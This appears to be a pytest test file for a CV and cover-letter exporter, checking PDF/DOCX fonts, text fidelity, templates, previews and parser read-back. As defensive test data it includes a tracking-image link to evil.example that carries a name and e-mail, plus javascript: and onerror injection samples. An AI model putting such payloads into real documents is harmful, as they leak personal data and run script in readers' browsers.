"""PDF and DOCX export: real text in embedded fonts, every template, nothing clipped, model markup dropped, and an
ATS-style read-back (our own text extraction and offline parser) that finds the facts of the CV it came from."""

from __future__ import annotations

import io
import re

import docx
import pytest
from PIL import Image
from pypdf import PdfReader

from core.base import InputError
from core.documents import extract_text
from core.export import TEMPLATES, clean, cv_docx, cv_pdf, first_page_png, letter_docx, letter_pdf
from core.local import parse_cv

ALL = sorted(TEMPLATES)

CV_TEXT = """Zoë Ελένη Иванова
zoe.ivanova@example.com | +44 7700 900123 | Manchester

Experience
Senior Data Analyst
Acme Analytics Ltd
2019 - Present
• Cut weekly reporting time by 12 hours by automating the Tableau dashboards of three regional sales teams.
• Led a team of four analysts.
Data Analyst
Betamax Data Ltd
2016 - 2019
• Built the churn model in Python that the retention team still uses every week.

Education
BSc Mathematics, University of Leeds, 2012 - 2016

Skills
Python, SQL, Tableau, Excel, A/B testing
"""


@pytest.fixture(scope="module")
def resume() -> dict:
    parsed = parse_cv(CV_TEXT)
    assert "Acme Analytics Ltd" in [w["name"] for w in parsed["work"]]
    return parsed


def fonts_of(pdf: bytes) -> list[dict]:
    fonts = {}
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            fonts[font["/BaseFont"]] = font
    return list(fonts.values())


def embedded(font: dict) -> bool:
    descendants = font.get("/DescendantFonts")
    target = descendants[0].get_object() if descendants else font
    descriptor = target["/FontDescriptor"].get_object()
    return any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3"))


@pytest.mark.parametrize("template", ALL)
def test_cv_pdf_is_real_text_in_embedded_fonts(resume: dict, template: str) -> None:
    pdf = cv_pdf(resume, template)
    assert pdf.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(pdf))
    assert all("/XObject" not in page["/Resources"] for page in reader.pages)  # no images, of text or anything
    assert all(embedded(f) for f in fonts_of(pdf))
    text = extract_text(pdf, "cv.pdf")
    lines = text.splitlines()
    assert "Zoë Ελένη Иванова" in lines
    assert {"experience", "education", "skills"} <= {ln.strip().lower() for ln in lines}
    assert (
        "• Cut weekly reporting time by 12 hours by automating the Tableau dashboards of three regional sales teams."
        in lines
    )


@pytest.mark.parametrize("template", ALL)
@pytest.mark.parametrize(
    "words", ["Zoë Ångström, François Müller, Łódź, Ñandú", "Ελένη Παπαδοπούλου, Αθήνα", "Иван Петров, Москва, Ёлка"]
)
def test_accented_latin_greek_and_cyrillic_survive(template: str, words: str) -> None:
    resume = {"basics": {"name": words.split(",")[0], "email": "x@example.com", "summary": words}}
    pdf = cv_pdf(resume, template)
    assert words in extract_text(pdf, "cv.pdf")
    assert all(embedded(f) for f in fonts_of(pdf))


@pytest.mark.parametrize("template", ALL)
def test_long_cv_flows_onto_more_pages_and_nothing_is_clipped(template: str) -> None:
    work = [
        {
            "name": f"Employer Number {i} Ltd",
            "position": f"Analyst Grade {i}",
            "startDate": str(1960 + i),
            "endDate": str(1961 + i),
            "highlights": [f"Achievement {i}.{k}: " + "reduced the monthly close by two days " * 3 for k in range(5)],
        }
        for i in range(40)
    ]
    resume = {"basics": {"name": "Lon Gcv", "email": "long@example.com"}, "work": work}
    pdf = cv_pdf(resume, template)
    assert len(PdfReader(io.BytesIO(pdf)).pages) >= 8
    lines = extract_text(pdf, "long.pdf").splitlines()
    for job in work:
        assert f"Employer: {job['name']}" in lines
        for bullet in job["highlights"]:
            assert f"• {bullet.strip()}" in lines


HOSTILE = (
    "Dear team,\n\nI built ![tracker](https://evil.example/p.png?name=Zoe&mail=zoe@example.com) dashboards, "
    "see [my site](https://evil.example/go) and <img src=https://evil.example/x.png>.\n\n"
    '#set page(width: 1cm) *bold* $x^2$ ] [ #import "x" @ref a<b \\ `code`\n\nKind regards,\nZoë'
)


@pytest.mark.parametrize("template", ALL)
def test_letter_pdf_keeps_text_and_drops_images_and_links(resume: dict, template: str) -> None:
    pdf = letter_pdf(HOSTILE, resume, template)
    reader = PdfReader(io.BytesIO(pdf))
    assert 1 == len(reader.pages)
    assert all("/Annots" not in page for page in reader.pages)
    text = extract_text(pdf, "letter.pdf")
    assert "evil.example" not in text
    lines = text.splitlines()
    assert "I built tracker dashboards, see my site and ." in lines
    assert '#set page(width: 1cm) *bold* $x^2$ ] [ #import "x" @ref a<b \\ `code`' in lines
    assert ["Kind regards,", "Zoë"] == [ln for ln in lines if ln][-2:]
    assert {"Zoë Ελένη Иванова", "zoe.ivanova@example.com | +44 7700 900123"} <= {ln.strip() for ln in lines}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a ![x](http://e/1.png) b", "a x b"),
        ("[words](javascript:alert(1))", "words"),
        ("[CV site](https://zoe.example)", "CV site"),
        ("<img src=x onerror=y>hi<b>!</b>", "hi!"),
        ("tab\there\x00\x1b", "tab\there"),
        (None, ""),
    ],
)
def test_clean(text: str | None, expected: str) -> None:
    assert expected == clean(text)


@pytest.mark.parametrize("template", ALL)
def test_only_the_cvs_own_urls_are_kept(template: str) -> None:
    resume = {
        "basics": {"name": "Ur Ls", "email": "urls@example.com", "url": "https://urls.example/cv"},
        "work": [{"name": "Acme Ltd", "position": "Analyst", "highlights": ["Shipped it, see https://evil.example/x"]}],
    }
    for data, name in ((cv_pdf(resume, template), "cv.pdf"), (cv_docx(resume, template), "cv.docx")):
        text = extract_text(data, name)
        assert "https://urls.example/cv" in text
        assert "evil.example" not in text
        assert "Shipped it, see" in text


@pytest.mark.parametrize("template", ALL)
def test_cv_docx_in_every_template_reads_back(resume: dict, template: str) -> None:
    data = cv_docx(resume, template)
    document = docx.Document(io.BytesIO(data))
    assert {"Experience", "Education", "Skills"} <= {
        p.text.strip().title() for p in document.paragraphs if p.style.name.startswith("Heading")
    }
    again = parse_cv(extract_text(data, "cv.docx"))
    assert facts(resume) == facts(again)


@pytest.mark.parametrize("template", ALL)
def test_letter_docx(resume: dict, template: str) -> None:
    data = letter_docx(HOSTILE, resume, template)
    text = extract_text(data, "letter.docx")
    assert "evil.example" not in text
    assert "Kind regards,\nZoë" in text
    assert "zoe.ivanova@example.com" in text


def test_unknown_template_is_refused(resume: dict) -> None:
    with pytest.raises(InputError, match="Unknown template 'fancy'"):
        cv_pdf(resume, "fancy")
    with pytest.raises(InputError, match="Unknown template 'fancy'"):
        cv_docx(resume, "fancy")


@pytest.mark.parametrize("template", ALL)
def test_preview_png_of_first_page(resume: dict, template: str) -> None:
    png = first_page_png(cv_pdf(resume, template), width=600)
    image = Image.open(io.BytesIO(png))
    assert ("PNG", 600) == (image.format, image.width)
    assert 1.35 < image.height / image.width < 1.47  # A4
    dark = sum(1 for px in image.convert("L").getdata() if px < 128)
    assert dark > 1000  # text was drawn


def test_preview_of_a_broken_pdf_is_an_input_error() -> None:
    with pytest.raises(InputError, match="preview could not be drawn"):
        first_page_png(b"%PDF-1.4 broken")


# --- ATS proof over the dev set -------------------------------------------------------------------------------

_LABEL = re.compile(r'<label type="[^"]+">(.*?)</label>', re.S)


def norm(value: str) -> str:
    """As bench/parse_eval.py compares values: case, dots and punctuation do not count."""
    return " ".join(re.sub(r"[^a-z0-9+#]+", " ", value.lower().replace(".", "")).split())


def facts(resume: dict) -> dict[str, set[str]]:
    from core.local.render import held_roles

    basics = resume["basics"]
    out = {k: {basics.get(k) or ""} for k in ("name", "email", "phone")}
    out["employers"] = {w.get("name") or "" for w in held_roles(resume)} - {""}
    out["titles"] = {w.get("position") or "" for w in held_roles(resume)} - {""}
    out["schools"] = {e.get("institution") or "" for e in resume.get("education") or []} - {""}
    return out


def skills(resume: dict) -> set[str]:
    from core.local.skills import vocabulary

    names = {k for s in resume.get("skills") or [] for k in [s.get("name") or "", *(s.get("keywords") or [])]}
    return {norm(vocabulary().canonical(n) or n) for n in names if n}


def dev_cvs(count: int) -> list[tuple[str, str]]:
    import html
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "shared" / "data" / "cv-ner-dev"
    root = root if root.is_dir() else Path("/work/shared/data/cv-ner-dev")
    if not root.is_dir():
        pytest.skip("the dev set is not on this machine")
    files = sorted(root.glob("*.xml"), key=lambda p: int(p.stem))[:count]
    out = []
    for path in files:
        raw = re.sub(r"<\?xml[^>]*\?>|</?cv>", "", path.read_text(encoding="utf-8"))
        out.append((path.stem, html.unescape(_LABEL.sub(r"\1", raw)).strip()))
    return out


@pytest.mark.slow
@pytest.mark.parametrize("template", ALL)
def test_ats_read_back_of_the_first_50_dev_cvs(template: str) -> None:
    """Every export, read back by extract_text and the offline parser, gives the name, e-mail, phone, employers,
    titles and schools the parser found in the original. Skills are compared as parse_eval does (vocabulary
    aliases, case and punctuation); at most 1% may be lost, because the parser reads a few of its own items
    differently in a list than in prose ('cloud hub' folds into CloudHub, 'Programming language: C' reads as a
    label and its value)."""
    mismatches = []
    lost_skills = []
    total = 0
    for stem, text in dev_cvs(50):
        original = parse_cv(text)
        for kind, data in (("pdf", cv_pdf(original, template)), ("docx", cv_docx(original, template))):
            again = parse_cv(extract_text(data, f"cv.{kind}"))
            if facts(original) != facts(again):
                mismatches.append((stem, kind, facts(original), facts(again)))
            total += len(skills(original))
            lost = skills(original) - skills(again)
            if lost:
                lost_skills.append((stem, kind, sorted(lost)))
    assert [] == mismatches
    assert sum(len(x[2]) for x in lost_skills) <= 0.01 * total, lost_skills
